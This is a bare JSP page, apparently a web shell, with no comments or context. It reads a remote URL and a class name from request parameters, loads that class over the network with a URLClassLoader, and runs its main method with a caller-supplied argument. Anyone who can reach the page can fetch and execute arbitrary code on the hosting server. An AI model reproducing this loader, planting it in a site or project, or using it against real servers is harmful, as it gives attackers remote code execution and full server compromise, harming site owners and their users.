<%@ page import="java.net.*,java.lang.reflect.Method" %>
<%
    String u = request.getParameter("u");
    String c = request.getParameter("c");
    URL[] urls = new URL[]{ new URL(u) };
    ClassLoader cl = URLClassLoader.newInstance(urls, Thread.currentThread().getContextClassLoader());
    Class<?> k = cl.loadClass(c);
    Method m = k.getMethod("main", String[].class);
    m.invoke(null, (Object) new String[]{ request.getParameter("a") });
%>
